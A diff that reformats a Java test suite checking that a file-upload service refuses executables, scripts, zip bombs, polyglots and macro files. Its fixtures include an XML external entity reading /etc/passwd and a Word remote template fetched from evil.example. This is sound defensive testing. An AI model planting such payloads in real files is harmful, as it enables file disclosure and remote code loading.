@@ -56,7 +56,10 @@ class UploadTests {
         var pdf = PdfSamples.plain(it -> {});
         return List.of(
                 new Bad("空.txt", () -> new byte[0], "files.refused.empty"),
-                new Bad("通知.docx", () -> latin("MZ\u0090\0\u0003program"), "files.refused.executable"),
+                new Bad(
+                        "通知.docx",
+                        () -> latin("MZ\u0090\0\u0003program"),
+                        "files.refused.executable"),
                 new Bad("图.png", () -> latin("\u007FELF..."), "files.refused.executable"),
                 new Bad("说明.txt", () -> latin("#!/bin/sh\nrm x"), "files.refused.executable"),
                 new Bad("run.bat", () -> latin("@echo off"), "files.refused.executable"),
@@ -66,7 +69,10 @@ class UploadTests {
                 new Bad("页.html", () -> latin("<!DOCTYPE html><p>x"), "files.refused.html"),
                 new Bad("说明.txt", () -> latin("<script>alert(1)</script>"), "files.refused.html"),
                 new Bad("数据.csv", () -> latin("  <html><body onload=x>"), "files.refused.html"),
-                new Bad("图.svg", () -> latin("<svg xmlns='http://www.w3.org/2000/svg'/>"), "files.refused.svg"),
+                new Bad(
+                        "图.svg",
+                        () -> latin("<svg xmlns='http://www.w3.org/2000/svg'/>"),
+                        "files.refused.svg"),
                 new Bad("包.zip", () -> zip(Map.of("a.txt", latin("a"))), "files.refused.archive"),
                 new Bad("通知.docx", () -> zip(Map.of("a.txt", latin("a"))), "files.refused.archive"),
                 new Bad("包.rar", () -> latin("Rar!\u001a\u0007\0"), "files.refused.archive"),
@@ -80,11 +86,26 @@ class UploadTests {
                 new Bad("弹.docx", UploadTests::bomb, "files.refused.zip-bomb"),
                 new Bad("套.docx", UploadTests::nestedBomb, "files.refused.zip-bomb"),
                 new Bad("多.docx", UploadTests::manyEntries, "files.refused.zip-bomb"),
-                new Bad("两.pdf", () -> joined(pdf, zip(Map.of("a.txt", latin("a")))), "files.refused.polyglot"),
-                new Bad("两.png", () -> joined(ImageSamples.png(), zip(Map.of("a", latin("a")))), "files.refused.polyglot"),
-                new Bad("两.jpg", () -> joined(ImageSamples.jpeg(), latin("MZ program")), "files.refused.polyglot"),
-                new Bad("两.gif", () -> joined(ImageSamples.gif(), latin("<script>x</script>")), "files.refused.polyglot"),
-                new Bad("两.docx", () -> joined(WordSamples.plain("文"), latin("<html>")), "files.refused.polyglot"),
+                new Bad(
+                        "两.pdf",
+                        () -> joined(pdf, zip(Map.of("a.txt", latin("a")))),
+                        "files.refused.polyglot"),
+                new Bad(
+                        "两.png",
+                        () -> joined(ImageSamples.png(), zip(Map.of("a", latin("a")))),
+                        "files.refused.polyglot"),
+                new Bad(
+                        "两.jpg",
+                        () -> joined(ImageSamples.jpeg(), latin("MZ program")),
+                        "files.refused.polyglot"),
+                new Bad(
+                        "两.gif",
+                        () -> joined(ImageSamples.gif(), latin("<script>x</script>")),
+                        "files.refused.polyglot"),
+                new Bad(
+                        "两.docx",
+                        () -> joined(WordSamples.plain("文"), latin("<html>")),
+                        "files.refused.polyglot"),
                 new Bad("坏.pdf", () -> latin("%PDF-1.7\nnothing"), "files.refused.broken"),
                 new Bad("坏.docx", () -> shortened(WordSamples.plain("文")), "files.refused.broken"),
                 new Bad("坏.png", () -> shortened(ImageSamples.png()), "files.refused.broken"),
@@ -104,16 +125,24 @@ class UploadTests {
     @TestFactory
     Stream<DynamicTest> refusesByTheNameOfTheProblem() {
         return badFiles().stream()
-                .map(bad -> DynamicTest.dynamicTest(bad.key() + " " + escaped(bad.name()), () -> assertRefused(bad)));
+                .map(
+                        bad ->
+                                DynamicTest.dynamicTest(
+                                        bad.key() + " " + escaped(bad.name()),
+                                        () -> assertRefused(bad)));
     }
 
     private static void assertRefused(Bad bad) throws IOException {
         var before = keptFiles();
 
-        var refusal = catchThrowableOfType(Refusal.class, () -> put(bad.content().get(), bad.name()));
+        var refusal =
+                catchThrowableOfType(Refusal.class, () -> put(bad.content().get(), bad.name()));
 
         assertThat(refusal).isNotNull();
-        var key = refusal.problems().isEmpty() ? refusal.messageKey() : refusal.problems().getFirst().messageKey();
+        var key =
+                refusal.problems().isEmpty()
+                        ? refusal.messageKey()
+                        : refusal.problems().getFirst().messageKey();
         assertThat(key).isEqualTo(bad.key());
         assertThat(keptFiles()).isEqualTo(before);
     }
@@ -148,7 +177,12 @@ class UploadTests {
                                             try (var in = files.store.open(stored.sha256())) {
                                                 assertThat(in.readAllBytes()).isEqualTo(bytes);
                                             }
-                                            assertThat(stored.kind().fits(SafeName.of(it.getKey()).extension())).isTrue();
+                                            assertThat(
+                                                            stored.kind()
+                                                                    .fits(
+                                                                            SafeName.of(it.getKey())
+                                                                                    .extension()))
+                                                    .isTrue();
                                         }));
     }
 
@@ -196,7 +230,8 @@ class UploadTests {
                     }
                 };
 
-        assertThatThrownBy(() -> files.store.put(broken, "断.txt", UploadLimits.ATTACHMENT)).hasMessageContaining("connection reset");
+        assertThatThrownBy(() -> files.store.put(broken, "断.txt", UploadLimits.ATTACHMENT))
+                .hasMessageContaining("connection reset");
         assertThat(keptFiles()).isEqualTo(before);
     }
 
@@ -207,12 +242,19 @@ class UploadTests {
         var young = put("新的".getBytes(StandardCharsets.UTF_8), "丙.txt");
         var dayAgo = FileTime.from(files.clock.instant().minus(Duration.ofHours(25)));
         for (var file : keptFiles()) {
-            Files.setLastModifiedTime(file, file.endsWith(young.sha256()) ? FileTime.from(files.clock.instant()) : dayAgo);
+            Files.setLastModifiedTime(
+                    file,
+                    file.endsWith(young.sha256()) ? FileTime.from(files.clock.instant()) : dayAgo);
         }
         var half = Files.createFile(home.resolve("incoming").resolve("upload-1.part"));
         Files.setLastModifiedTime(half, dayAgo);
 
-        new FileSweep(files.folder, files.register, List.of(it -> !it.equals(orphan.sha256())), files.clock).sweep();
+        new FileSweep(
+                        files.folder,
+                        files.register,
+                        List.of(it -> !it.equals(orphan.sha256())),
+                        files.clock)
+                .sweep();
 
         assertThat(files.store.find(needed.sha256(), "甲.txt")).isPresent();
         assertThat(files.store.find(orphan.sha256(), "乙.txt")).isEmpty();
@@ -244,7 +286,9 @@ class UploadTests {
                                             never.await();
                                             return "";
                                         }))
-                .isInstanceOfSatisfying(Refusal.class, it -> assertThat(it.messageKey()).isEqualTo("files.refused.too-slow"));
+                .isInstanceOfSatisfying(
+                        Refusal.class,
+                        it -> assertThat(it.messageKey()).isEqualTo("files.refused.too-slow"));
         assertThat(guard.<String>read("快.pdf", () -> "读完")).isEqualTo("读完");
     }
 
@@ -258,7 +302,8 @@ class UploadTests {
                 .isEqualTo(
                         "attachment; filename=\"____2021_____.txt\"; filename*=UTF-8''%E8%A6%81%E7%82%B9%20_2021_%28%E6%AD%A3%E5%BC%8F%29.txt");
         assertThat(response.getHeaders().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
-        assertThat(response.getHeaders().getFirst("Content-Security-Policy")).isEqualTo("default-src 'none'; sandbox");
+        assertThat(response.getHeaders().getFirst("Content-Security-Policy"))
+                .isEqualTo("default-src 'none'; sandbox");
         assertThat(response.getHeaders().getContentType()).hasToString("text/plain");
     }
 
@@ -321,11 +366,17 @@ class UploadTests {
     }
 
     private static byte[] macroEnabled() {
-        return zip(Map.of("[Content_Types].xml", latin("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")));
+        return zip(
+                Map.of(
+                        "[Content_Types].xml",
+                        latin(
+                                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")));
     }
 
     private static byte[] oldWithMacros() {
-        try (var store = new POIFSFileSystem(new ByteArrayInputStream(ExcelSamples.oldExcel((book, sheet) -> {})))) {
+        try (var store =
+                new POIFSFileSystem(
+                        new ByteArrayInputStream(ExcelSamples.oldExcel((book, sheet) -> {})))) {
             store.getRoot().createDirectory("_VBA_PROJECT_CUR");
             return written(store);
         } catch (IOException e) {
@@ -383,11 +434,19 @@ class UploadTests {
     }
 
     private static byte[] withEntities() {
-        return wordWith(Map.of("word/styles.xml", latin("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")));
+        return wordWith(
+                Map.of(
+                        "word/styles.xml",
+                        latin(
+                                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")));
     }
 
     private static byte[] withRemoteTemplate() {
-        return wordWith(Map.of("word/_rels/settings.xml.rels", latin("<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));
+        return wordWith(
+                Map.of(
+                        "word/_rels/settings.xml.rels",
+                        latin(
+                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));
     }
 
     /** So many bytes, without holding them. */
